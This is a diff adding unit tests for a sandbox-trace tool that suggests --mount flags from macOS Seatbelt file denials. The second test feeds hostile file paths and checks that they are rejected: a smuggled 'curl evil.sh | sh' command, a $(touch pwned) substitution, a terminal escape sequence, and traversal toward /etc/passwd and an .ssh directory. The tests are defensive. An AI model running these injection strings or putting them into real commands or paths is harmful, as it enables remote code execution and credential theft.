@@ -65,3 +65,48 @@ describe('trace --suggest', () => {
     expect(skipped).toBe(7);
   });
 });
+
+describe('trace --suggest on macOS Seatbelt denials', () => {
+  it('prints the --mount that would allow each refused file, read-only for reads, rw for writes', () => {
+    const { grants, skipped } = suggestGrants([
+      record('sandbox.seatbelt-denial', { op: 'file-read-data', target: '/Users/alice/data/report.csv' }),
+      record('sandbox.seatbelt-denial', { op: 'file-write-create', target: '/Users/alice/out' }),
+      record('sandbox.seatbelt-denial', { op: 'file-read-data', target: '/Users/alice/data/report.csv' }),
+      record('sandbox.seatbelt-denial', { op: 'file-read-metadata', target: '/Users/alice/my notes' }),
+    ]);
+    expect(grants).toEqual([
+      '--mount /Users/alice/data/report.csv:/Users/alice/data/report.csv:ro',
+      '--mount /Users/alice/out:/Users/alice/out:rw',
+      "--mount '/Users/alice/my notes:/Users/alice/my notes:ro'",
+    ]);
+    expect(skipped).toBe(0);
+  });
+
+  it('a path the sandbox chose to be shell code, a terminal escape or a relative name gets no flag', () => {
+    const { grants, skipped } = suggestGrants([
+      record('sandbox.seatbelt-denial', {
+        op: 'file-read-data',
+        target: "/Users/alice/x'; curl evil.sh | sh; '",
+      }),
+      record('sandbox.seatbelt-denial', { op: 'file-read-data', target: '/Users/alice/$(touch pwned)' }),
+      record('sandbox.seatbelt-denial', {
+        op: 'file-read-data',
+        target: '/Users/alice/\u001b]52;c;aGk=\u0007',
+      }),
+      record('sandbox.seatbelt-denial', { op: 'file-read-data', target: '../../etc/passwd' }),
+      record('sandbox.seatbelt-denial', { op: 'file-read-data', target: '/Users/alice/../../private/etc' }),
+      record('sandbox.seatbelt-denial', {
+        op: 'file-read-data',
+        target: '/System/Volumes/Data/Users/alice/.ssh',
+      }),
+      record('sandbox.seatbelt-denial', { op: 'file-read-data', target: '/dev/ttys001' }),
+      record('sandbox.seatbelt-denial', { op: 'file-read-data', target: 7 }),
+      record('sandbox.seatbelt-denial', {
+        op: 'mach-lookup',
+        target: 'com.apple.coreservices.launchservicesd',
+      }),
+    ]);
+    expect(grants).toEqual([]);
+    expect(skipped).toBe(8);
+  });
+});
